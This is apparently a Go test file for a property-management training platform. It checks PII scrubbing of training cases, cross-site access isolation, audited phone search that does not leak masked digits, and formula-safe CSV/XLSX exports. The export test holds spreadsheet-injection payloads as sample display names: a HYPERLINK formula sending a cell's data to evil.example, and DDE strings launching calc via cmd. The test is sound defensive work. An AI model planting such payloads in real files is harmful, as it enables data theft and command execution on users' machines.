package http_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/academy/academy/internal/academy"
)

// closedCase makes a closed live ticket on s1 that carries what the
// scrubber may miss, and the training case the s1 trainer makes of it.
func (e *env) closedCase() (ticket string, tc academy.TrainingCase) {
	e.t.Helper()
	var tk apiTicket
	e.api("POST", "/api/v1/workspaces/s1/tickets", "agent", map[string]any{"type": "inquiry", "title": "退款到银行卡",
		"description": "业主王芳说退款到卡号6222 **** **** 7894，我老婆李秀兰会来拿收据，加微信 wangfang_1988", "resident": "r1"}).json(e.t, &tk)
	e.transition("s1", tk.ID, "agent", "answer", 1, map[string]string{"answer": "已登记"})
	e.transition("s1", tk.ID, "agent", "close", 2, nil)
	res := e.api("POST", "/api/v1/workspaces/s1/tickets/"+tk.ID+"/training-case", "trainer", nil)
	if res.StatusCode != 201 {
		e.t.Fatalf("case: %d %s", res.StatusCode, res.Body)
	}
	res.json(e.t, &tc)
	for _, secret := range []string{"7894", "李秀兰", "wangfang_1988"} {
		if strings.Contains(res.Body, secret) {
			e.t.Errorf("the case still holds %q: %s", secret, res.Body)
		}
	}
	return tk.ID, tc
}

// TestCasesStayOnTheirSite: a trainer of s2 neither lists, reads,
// downloads nor makes cases of s1, and is answered as for a case or
// ticket that does not exist.
func TestCasesStayOnTheirSite(t *testing.T) {
	e := newEnv(t)
	e.createUser("trainer2", []string{academy.RoleTrainer}, []string{"s2"})
	e.tokens["trainer2"] = e.login("trainer2", testPassword)
	ticket, tc := e.closedCase()

	if res := e.api("GET", "/author/cases", "trainer", nil); res.StatusCode != 200 || !strings.Contains(res.Body, tc.ID) {
		t.Fatalf("s1 trainer's list: %d, case shown %v", res.StatusCode, strings.Contains(res.Body, tc.ID))
	}
	if res := e.api("GET", "/author/cases", "admin", nil); !strings.Contains(res.Body, tc.ID) {
		t.Fatal("admin's list lacks the case")
	}
	if res := e.api("GET", "/author/cases", "trainer2", nil); res.StatusCode != 200 || strings.Contains(res.Body, tc.ID) || strings.Contains(res.Body, "业主甲") {
		t.Fatalf("s2 trainer's list: %d, shows the s1 case", res.StatusCode)
	}
	for _, path := range []string{"/author/cases/" + tc.ID, "/author/cases/" + tc.ID + "/scenario.yaml"} {
		if res := e.api("GET", path, "trainer", nil); res.StatusCode != 200 {
			t.Errorf("s1 trainer %s: %d", path, res.StatusCode)
		}
		if res := e.api("GET", path, "admin", nil); res.StatusCode != 200 {
			t.Errorf("admin %s: %d", path, res.StatusCode)
		}
		other := e.api("GET", path, "trainer2", nil)
		missing := e.api("GET", strings.Replace(path, tc.ID, "case-nosuchcase", 1), "trainer2", nil)
		if other.StatusCode != 404 || missing.StatusCode != 404 || strings.Contains(other.Body, "业主甲") {
			t.Errorf("s2 trainer %s: %d (missing: %d) %s", path, other.StatusCode, missing.StatusCode, other.Body)
		}
	}
	// Making a case of another site's ticket: the same answer as for a
	// ticket that does not exist, through the API and the form.
	other := e.api("POST", "/api/v1/workspaces/s1/tickets/"+ticket+"/training-case", "trainer2", nil)
	missing := e.api("POST", "/api/v1/workspaces/s1/tickets/nosuchticket/training-case", "trainer2", nil)
	if other.StatusCode != 404 || missing.StatusCode != 404 || other.errCode(t) != missing.errCode(t) {
		t.Errorf("s2 trainer makes an s1 case: %d %s (missing: %d %s)", other.StatusCode, other.Body, missing.StatusCode, missing.Body)
	}
	if res := e.form("/author/cases", "trainer2", url.Values{"site": {"s1"}, "ticket": {ticket}}); res.StatusCode != 404 {
		t.Errorf("s2 trainer's form: %d %s", res.StatusCode, res.Body)
	}
	if res := e.form("/author/cases", "trainer", url.Values{"site": {"s1"}, "ticket": {ticket}}); res.StatusCode != 303 {
		t.Errorf("s1 trainer's form: %d %s", res.StatusCode, res.Body)
	}
}

// TestPhoneSearchNeedsTheWholeNumber: an agent who sees 138****5678 cannot
// spell the hidden digits out with prefix searches; a whole number or the
// last four digits with the flat find the resident, and phone searches
// are audited like reveals.
func TestPhoneSearchNeedsTheWholeNumber(t *testing.T) {
	e := newEnv(t)
	var mine, other apiTicket
	e.api("POST", "/api/v1/workspaces/s1/tickets", "agent", map[string]any{"type": "inquiry", "title": "问停车月卡", "resident": "r1"}).json(t, &mine)
	e.api("POST", "/api/v1/workspaces/s1/tickets", "agent", map[string]any{"type": "inquiry", "title": "问装修手续", "resident": "r2"}).json(t, &other)
	search := func(q string) []string {
		t.Helper()
		var out struct{ Items []academy.TicketSummary }
		res := e.api("GET", "/api/v1/workspaces/s1/tickets?queue=all&q="+url.QueryEscape(q), "agent", nil)
		if res.StatusCode != 200 {
			t.Fatalf("search %q: %d %s", q, res.StatusCode, res.Body)
		}
		res.json(t, &out)
		ids := []string{}
		for _, it := range out.Items {
			ids = append(ids, it.ID)
		}
		return ids
	}
	// r1's phone is 13812345678: every part of it finds what digits that
	// are in no phone find, which is nothing.
	for _, q := range []string{"138", "1381", "13812", "138123", "1381234", "13812345", "138123456", "1381234567",
		"5678", "45678", "2345", "12345678", "138 1234", "138-1234-567"} {
		none := strings.Map(func(r rune) rune {
			if r >= '0' && r <= '9' {
				return '9'
			}
			return r
		}, q)
		if got, want := search(q), search(none); len(got) != 0 || len(want) != 0 {
			t.Errorf("search %q finds %v (and %q finds %v)", q, got, none, want)
		}
	}
	before := len(e.auditOf(academy.AuditPhoneSearched))
	for _, q := range []string{"13812345678", "138-1234-5678", "+86 138 1234 5678", "1202 5678", "3栋2单元1202 5678", "5678 3-2-1202"} {
		if got := search(q); len(got) != 1 || got[0] != mine.ID {
			t.Errorf("search %q finds %v, want only %s", q, got, mine.ID)
		}
	}
	if got := search("1302 5678"); len(got) != 0 {
		t.Errorf("the last digits with another flat find %v", got)
	}
	audit := e.auditOf(academy.AuditPhoneSearched)
	if len(audit)-before != 7 {
		t.Fatalf("%d phone searches audited, want 7", len(audit)-before)
	}
	for _, ev := range audit {
		if ev.Actor != "agent" || ev.Target != "s1" || strings.Contains(ev.Detail, "12345678") {
			t.Errorf("audit: %+v", ev)
		}
	}
	// A search by name is no phone search.
	if got := search("王芳"); len(got) != 1 || len(e.auditOf(academy.AuditPhoneSearched)) != len(audit) {
		t.Errorf("search by name: %v", got)
	}
}

// TestExportsHoldNoFormulas: a display name that a spreadsheet would run
// as a formula reaches the CSV export as text, with the apostrophe
// spreadsheets read as "text", and the XLSX export as a text cell.
func TestExportsHoldNoFormulas(t *testing.T) {
	e := newEnv(t)
	names := map[string]string{
		"eq":   `=HYPERLINK("http://evil.example/?"&A1,"点我")`,
		"plus": "+1+cmd|' /C calc'!A0",
		"dash": "-2+3",
		"at":   "@SUM(1+1)*cmd|' /C calc'!A0",
		"tab":  "\t=1+1",
		"cr":   "\r=1+1",
		"safe": "王-芳=",
	}
	for user, name := range names {
		e.createUser(user, []string{academy.RoleTrainee}, []string{"s1"})
		// Tabs and carriage returns cannot be typed into a profile (it
		// is trimmed), but a record written by an import may hold them.
		if _, err := e.accounts.Users.UpdateUser(context.Background(), user, academy.UserUpdate{DisplayName: &name}); err != nil {
			t.Fatal(err)
		}
	}
	res := e.api("GET", "/team/export/csv", "manager", nil)
	if res.StatusCode != 200 {
		t.Fatalf("csv: %d %s", res.StatusCode, res.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows[2:] { // after the counted-at line and the header
		got[r[0]] = r[1]
	}
	for user, name := range names {
		want := "'" + name
		if user == "safe" {
			want = name
		}
		if got[user] != want {
			t.Errorf("csv name of %s = %q, want %q", user, got[user], want)
		}
	}

	x := e.api("GET", "/team/export/xlsx", "manager", nil)
	f, err := excelize.OpenReader(bytes.NewReader([]byte(x.Body)))
	if err != nil {
		t.Fatalf("xlsx: %v", err)
	}
	xrows, err := f.GetRows("认证")
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range xrows[2:] {
		user := r[0]
		cell, _ := excelize.CoordinatesToCellName(2, i+3)
		formula, err := f.GetCellFormula("认证", cell)
		kind, _ := f.GetCellType("认证", cell)
		if err != nil || formula != "" || kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString {
			t.Errorf("xlsx %s of %s: formula %q, type %v, err %v", cell, user, formula, kind, err)
		}
		if name, ok := names[user]; ok && r[1] != name {
			t.Errorf("xlsx name of %s = %q, want %q", user, r[1], name)
		}
	}
}

// TestNoOracleOfOtherSites: a manager of s2 gets the same answer about a
// user or site of s1 as about one that does not exist, on every route
// that takes a username or a site.
func TestNoOracleOfOtherSites(t *testing.T) {
	e := newEnv(t)
	due := time.Now().AddDate(0, 1, 0).Format("2006-01-02")
	same := func(what string, elsewhere, missing *response, name, ghost string) {
		t.Helper()
		a := strings.ReplaceAll(elsewhere.Body, name, "NAME")
		b := strings.ReplaceAll(missing.Body, ghost, "NAME")
		if elsewhere.StatusCode != missing.StatusCode || a != b {
			t.Errorf("%s tells them apart:\n%d %s\n%d %s", what, elsewhere.StatusCode, elsewhere.Body, missing.StatusCode, missing.Body)
		}
		if elsewhere.StatusCode < 400 {
			t.Errorf("%s: %d for another site's %s", what, elsewhere.StatusCode, name)
		}
	}
	assign := func(body map[string]any) *response {
		return e.api("POST", "/api/v1/assignments", "othermanager", body)
	}
	same("assignment to a user",
		assign(map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"people": []string{"trainee"}}, "due": map[string]any{"date": due}}),
		assign(map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"people": []string{"nobody1"}}, "due": map[string]any{"date": due}}), "trainee", "nobody1")
	same("assignment to a site",
		assign(map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"role": "trainee", "site": "s1"}, "due": map[string]any{"date": due}}),
		assign(map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"role": "trainee", "site": "s9"}, "due": map[string]any{"date": due}}), "s1", "s9")
	for _, path := range []string{"/team/people/%s", "/learners/%s", "/api/v1/users/%s/quizzes/ethics/grants"} {
		method := "GET"
		var body any
		if strings.HasSuffix(path, "grants") {
			method, body = "POST", map[string]any{"kind": "attempt", "reason": "网络中断"}
		}
		same(path, e.api(method, strings.Replace(path, "%s", "trainee", 1), "othermanager", body),
			e.api(method, strings.Replace(path, "%s", "nobody1", 1), "othermanager", body), "trainee", "nobody1")
	}
	same("team by site", e.api("GET", "/team?site=s1", "othermanager", nil), e.api("GET", "/team?site=s9", "othermanager", nil), "s1", "s9")
	// Those who may assign still can, and the admin gets the same answer
	// for a user or site that does not exist.
	if res := e.api("POST", "/api/v1/assignments", "manager", map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"people": []string{"trainee"}}, "due": map[string]any{"date": due}}); res.StatusCode != 201 {
		t.Errorf("manager of s1 assigns trainee: %d %s", res.StatusCode, res.Body)
	}
	ghostSite := e.api("POST", "/api/v1/assignments", "admin", map[string]any{"kind": "course", "ref": "ethics", "target": map[string]any{"role": "trainee", "site": "s9"}, "due": map[string]any{"date": due}})
	if ghostSite.StatusCode != 400 || !strings.Contains(ghostSite.Body, "s9") {
		t.Errorf("admin assigns to a missing site: %d %s", ghostSite.StatusCode, ghostSite.Body)
	}
}
